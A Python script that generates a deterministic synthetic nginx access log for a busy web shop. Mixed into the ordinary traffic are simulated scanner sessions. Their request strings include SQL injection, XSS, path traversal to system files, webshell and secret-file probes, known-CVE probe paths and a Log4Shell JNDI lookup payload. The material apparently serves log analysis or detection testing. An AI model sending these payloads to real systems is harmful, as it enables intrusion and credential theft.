#!/usr/bin/env python3
"""An access log of a busy web shop in nginx's "combined" format, the same bytes for the same arguments.

usage: gen_nginx.py LINES [--seed S] [--rate LINES_PER_SECOND] > access.log

Nearly all of it is visitors with their assets, search engines, API clients and monitoring. A few lines in a hundred come from
1,500 scanners, each with one habit: probing for pages and backdoors, bad user agents, injections, traversals, known
vulnerabilities, logins. Sessions overlap in time.
"""
import argparse, heapq, itertools, random, sys, time

ap = argparse.ArgumentParser()
ap.add_argument("n", type=int)
ap.add_argument("--seed", type=int, default=43)
ap.add_argument("--rate", type=float, default=20.0, help="average log lines per second of log time")
ap.add_argument("--start", type=int, default=1780272000, help="epoch of the first line (2026-06-01)")
ap.add_argument("--visitors", type=int, default=40000)
ap.add_argument("--scanners", type=int, default=1500)
a = ap.parse_args()
R = random.Random(a.seed)

def public_ip():
    while True:
        o = R.randrange(1, 224)
        if o not in (10, 100, 127, 169, 172, 192, 198, 203):
            return "%d.%d.%d.%d" % (o, R.randrange(256), R.randrange(256), R.randrange(1, 255))

def browser():
    c, k = R.randrange(108, 139), R.random()
    if k < .40: return f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{c}.0.0.0 Safari/537.36"
    if k < .52: return f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{c}.0.0.0 Safari/537.36"
    if k < .66: return f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{c}.0.0.0 Mobile Safari/537.36"
    if k < .82: return f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_{R.randrange(7)} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{R.randrange(7)} Mobile/15E148 Safari/604.1"
    if k < .90: return f"Mozilla/5.0 (X11; Linux x86_64; rv:{c}.0) Gecko/20100101 Firefox/{c}.0"
    return f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{c}.0.0.0 Safari/537.36 Edg/{c}.0.0.0"

BOTS = ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"]
TOOLS = ["kube-probe/1.28", "Prometheus/2.48.0", "okhttp/4.12.0", "GuzzleHttp/7", "python-requests/2.31.0", "Go-http-client/1.1"]
BAD_UA = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
          "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "WPScan v3.8.22 (https://wpscan.com/)",
          "gobuster/3.5", "Mozilla/5.0 Jorgee", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
          "Nmap Scripting Engine; https://nmap.org/book/nse.html", "libwww-perl/6.67", "MJ12bot/v1.4.8"]
SECTIONS = ["blog", "docs", "products", "news", "help", "account", "shop", "about"]
SLUGS = ["%s-%s-%d" % (x, y, i) for i in range(60) for x, y in [("getting", "started"), ("release", "notes"), ("how-to", "guide"), ("summer", "sale"), ("api", "overview")]]
ASSETS = ["/static/css/main.%x.css", "/static/js/app.%x.js", "/static/js/vendor.%x.js", "/static/img/logo.svg", "/static/img/hero-%x.webp",
          "/static/fonts/inter.woff2", "/favicon.ico", "/media/thumb/%x.jpg", "/media/full/%x.png"]
MISSING = ["/admin", "/phpmyadmin/index.php", "/pma/", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/manager/html", "/solr/admin/info/system",
           "/boaform/admin/formLogin", "/cgi-bin/luci", "/actuator/health", "/actuator/env", "/owa/auth/logon.aspx", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
           "/api/jsonws/invoke", "/console/", "/_ignition/execute-solution", "/HNAP1", "/GponForm/diag_Form", "/telescope/requests", "/login.action",
           "/remote/login", "/server-status", "/.well-known/security.txt", "/autodiscover/autodiscover.xml", "/ecp/Current/exporttool/", "/jenkins/login",
           "/hudson", "/nagios/", "/zabbix/", "/grafana/login", "/mysqladmin/", "/webmail/", "/roundcube/"] + ["/%s/%s" % (d, f) for d in
           ("old", "new", "test", "dev", "bak", "tmp", "site", "www", "backup", "wordpress", "cms", "portal") for f in
           ("index.php", "login.php", "admin.php", "config.php", "setup.php", "install.php", "wp-login.php", "readme.html")]
SENSITIVE = ["/.env", "/.git/config", "/.env.backup", "/backup.sql", "/dump.sql.gz", "/.bash_history", "/app/.env", "/db.sql", "/site.sql.zip", "/.bashrc", "/.htpasswd", "/.aws/credentials"]
BACKDOORS = ["/c99.php", "/uploads/r57.php", "/wp-content/uploads/c100.php", "/images/filesman.php", "/shell/mma.php", "/sniper.php", "/root.php", "/hacker.php"]
SQLI = ["?id=%d%%20union%%20select%%20%d,null", "?id=1%%20and%%20sleep%%28%d%%29--%d", "?q=1%%20union%%20all%%20select%%20%d%%2cnull%%2cnull%%2c%d",
        "?cat=%d%%27%%20or%%20benchmark%%28%d%%2cmd5%%281%%29%%29", "?u=%d%%7c%%7cchr%%28%d%%29", "?p=%d;pg_sleep%%28%d%%29"]
XSS = ["?q=%%3Cscript%%3Ealert(%d)%%3C/script%%3E", "?q=<img+src=x+onerror=alert(%d)>", "?s=javascript:alert(%d)", "?n=%%3Csvg%%20onload=alert(%d)%%3E"]
TRAVERSAL = ["/../../../../etc/passwd?%d", "/static/%%2e%%2e%%2f%%2e%%2e%%2fetc/shadow?%d", "/download/../../../proc/self/environ?%d", "/cgi-bin/.%%2e/.%%2e/bin/sh?%d",
             "/files/..%%5c..%%5cwindows/win.ini?%d", "/img/../../var/log/auth.log?%d", "/icons/%%252e%%252e%%252f%d"]
CVES = ["/?x=${jndi:ldap://%s:1389/a}", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd&h=%s", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession&h=%s",
        "/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/&h=%s", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&h=%s"]

heap, seq = [], itertools.count()

def later(t, fn, *args):
    heapq.heappush(heap, (t, next(seq), fn, args))

def req(t, ip, ua, path, status=200, verb="GET", size=None, ref="-", user="-"):
    if size is None:
        size = R.randrange(180, 60000) if status == 200 else R.randrange(100, 600)
    heapq.heappush(heap, (t, next(seq), None, f'{ip} - {user}|] "{verb} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"\n'))

VISITORS = [(public_ip(), browser()) for _ in range(a.visitors)]
CRAWLERS = [(public_ip(), R.choice(BOTS)) for _ in range(120)]
CLIENTS = [(public_ip(), R.choice(TOOLS)) for _ in range(60)]
KINDS = ["probe", "badua", "sensitive", "backdoor", "sqli", "xss", "traversal", "bf", "proxy", "cve", "slow"]
SCANNERS = [(public_ip(), R.choices(KINDS, [22, 22, 10, 7, 7, 5, 7, 8, 3, 4, 5])[0]) for _ in range(a.scanners)]

def visit(t, v, left):
    ip, ua = v
    page = "/%s/%s" % (R.choice(SECTIONS), R.choice(SLUGS)) if R.random() < .85 else "/"
    if R.random() < .12: page += "?utm_source=newsletter&page=%d" % R.randrange(9)
    r = R.random()
    ref = "https://www.google.com/" if R.random() < .2 else "https://shop.example.com/"
    if r < .02: req(t, ip, ua, page + "-old", 404, ref=ref)
    elif r < .05: req(t, ip, ua, page, 301, size=162)
    elif r < .07: req(t, ip, ua, "/account/login", 302, "POST", ref=ref)
    else: req(t, ip, ua, page, ref=ref)
    for _ in range(R.randrange(0, 7)):
        s = R.choice(ASSETS)
        req(t + R.random() * 1.5, ip, ua, s % R.randrange(4096) if "%" in s else s, 304 if R.random() < .3 else 200, ref="https://shop.example.com" + page)
    if left > 1:
        later(t + R.uniform(4, 60), visit, v, left - 1)

def scan(t, ip, kind, left, ua):
    gap = R.uniform(.1, 1.5)
    n = R.randrange(1, 10000)
    if kind == "probe": req(t, ip, ua, R.choice(MISSING), R.choice([404, 404, 404, 403]))
    elif kind == "badua": req(t, ip, ua, R.choice(MISSING + ["/", "/robots.txt", "/index.html"]), R.choice([200, 404]))
    elif kind == "sensitive": req(t, ip, ua, R.choice(SENSITIVE), 404)
    elif kind == "backdoor": req(t, ip, ua, R.choice(BACKDOORS), 404)
    elif kind == "sqli": req(t, ip, ua, "/products/list" + R.choice(SQLI) % (n, R.randrange(20)), R.choice([200, 500])); gap /= 4
    elif kind == "xss": req(t, ip, ua, "/search" + R.choice(XSS) % n); gap /= 3
    elif kind == "traversal": req(t, ip, ua, R.choice(TRAVERSAL) % n, R.choice([400, 404]))
    elif kind == "bf": req(t, ip, ua, "/account/login", R.choice([401, 401, 403]), "POST")
    elif kind == "proxy": req(t, ip, ua, "http://azenv.net/", 400); gap *= 20
    elif kind == "cve": req(t, ip, ua, R.choice(CVES) % ip, 404)
    else: req(t, ip, ua, R.choice(MISSING), 404); gap *= 60
    if left > 1:
        later(t + gap, scan, ip, kind, left - 1, ua)

def spawn(t):
    r = R.random()
    if r < .60: later(t, visit, R.choice(VISITORS), R.randrange(1, 8))
    elif r < .85:
        for _ in range(R.randrange(1, 6)):
            ip, ua = R.choice(CRAWLERS); req(t + R.random() * 3, ip, ua, "/%s/%s" % (R.choice(SECTIONS), R.choice(SLUGS)), 200 if R.random() < .95 else 404)
    elif r < .985:
        ip, ua = R.choice(CLIENTS); req(t, ip, ua, R.choice(["/healthz", "/metrics", "/api/v1/orders/%d" % R.randrange(99999), "/api/v1/items?limit=50"]), verb=R.choice(["GET", "GET", "POST"]))
    else:
        ip, kind = R.choice(SCANNERS)
        ua = R.choice(BAD_UA) if kind == "badua" else R.choice([browser(), browser(), "-", "python-requests/2.28.1", "curl/7.88.1"])
        scan(t, ip, kind, R.randrange(3, 60), ua)
    later(t + R.expovariate(a.rate / 11.0), spawn)

later(a.start, spawn)
out, done, last, stamp = [], 0, -1, ""
while done < a.n:
    t, _, fn, x = heapq.heappop(heap)
    if fn is not None:
        fn(t, *x)
        continue
    if int(t) != last:
        last = int(t); stamp = time.strftime(" [%d/%b/%Y:%H:%M:%S +0000", time.gmtime(t))
    head, tail = x.split("|", 1)
    out.append(head + stamp + tail)
    done += 1
    if len(out) == 20000:
        sys.stdout.write("".join(out)); out.clear()
sys.stdout.write("".join(out))
